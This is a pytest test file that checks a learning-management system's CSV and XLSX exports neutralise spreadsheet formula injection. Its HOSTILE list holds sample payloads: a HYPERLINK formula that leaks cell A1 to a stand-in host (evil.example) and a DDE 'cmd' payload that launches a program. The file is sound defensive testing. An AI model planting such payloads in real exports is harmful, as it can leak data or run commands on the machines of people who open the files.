"""Formula injection: every CSV export neutralises cells a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms_core import csv_export
from lms_core.accounts.models import Role
from lms_core.events.services import emit
from lms_core.extensions import db
from lms_core.jobs.services import commit
from tests.conftest import login
from tests.factories import UserFactory, grant

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def _cells(values):
    buf = io.StringIO()
    csv_export.writer(buf).writerow(values)
    return next(csv.reader(io.StringIO(buf.getvalue())))


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value):
    assert _cells([value]) == ["'" + value]


def test_ordinary_cells_and_numbers_are_untouched():
    assert _cells(["李明", "a=b", "", 12, -3, 1.5, None]) == ["李明", "a=b", "", "12", "-3", "1.5", ""]
    assert _cells(["-1.5", "+2", "-3"]) == ["-1.5", "+2", "-3"]  # plain numbers as text: nothing runs


@given(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=6))
def test_no_string_cell_ever_starts_a_formula(row):
    for written, original in zip(_cells(row) if row else [], row, strict=False):
        if isinstance(original, str):
            assert not written.startswith(csv_export.FORMULA_STARTS) or csv_export._PLAIN_NUMBER.fullmatch(written)
            assert written.removeprefix("'") == original or written == original


def test_the_audit_export_neutralises_imported_names(client, tree):
    auditor = UserFactory(username="nl_audit", org_unit=tree.county_a)
    grant(auditor, Role.AUDITOR, tree.county_a)
    hostile = UserFactory(username="-2+3+cmd", full_name=HOSTILE[0], org_unit=tree.village_a)
    db.session.commit()
    emit("video.played", actor=hostile, obj=hostile, org_unit_id=tree.village_a.id, payload={"x": "=1+1"})
    commit()
    login(client, "nl_audit")
    raw = client.get("/audit/events.csv?name=video.").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
    assert len(rows) == 2
    # Found by value, not position: the export's columns may change.
    assert "'-2+3+cmd" in rows[1] and "'" + HOSTILE[0] in rows[1]
    assert "-2+3+cmd" not in rows[1] and HOSTILE[0] not in rows[1]
    assert not any(
        cell.startswith(csv_export.FORMULA_STARTS) and not csv_export._PLAIN_NUMBER.fullmatch(cell)
        for row in rows
        for cell in row
    )


def test_every_csv_writer_in_the_code_goes_through_the_helper():
    """A new export that calls ``csv.writer`` directly would skip the neutralising."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("lms_core", "plugins", "lrs")
        for path in (root / folder).rglob("*.py")
        if path.name != "csv_export.py"
        and ("csv.writer(" in path.read_text(encoding="utf-8") or "csv.DictWriter(" in path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_initial_password_sheet_neutralises_hostile_names(app):
    from openpyxl import load_workbook

    from lms_core.accounts.initial_passwords import Issued, as_csv, as_xlsx

    lines = [Issued(username="@evil", full_name=HOSTILE[0], org_unit="+unit", password="abcDEF234567")]
    with app.test_request_context():
        raw = as_csv(lines).decode("utf-8-sig")
        book = load_workbook(io.BytesIO(as_xlsx(lines)))
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[1] == ["'@evil", "'" + HOSTILE[0], "'+unit", "abcDEF234567"]
    cells = list(book.worksheets[0].iter_rows(min_row=2, values_only=False))[0]
    assert [c.data_type for c in cells] == ["s"] * 4  # text, never a formula
    assert [c.value for c in cells] == ["@evil", HOSTILE[0], "+unit", "abcDEF234567"]
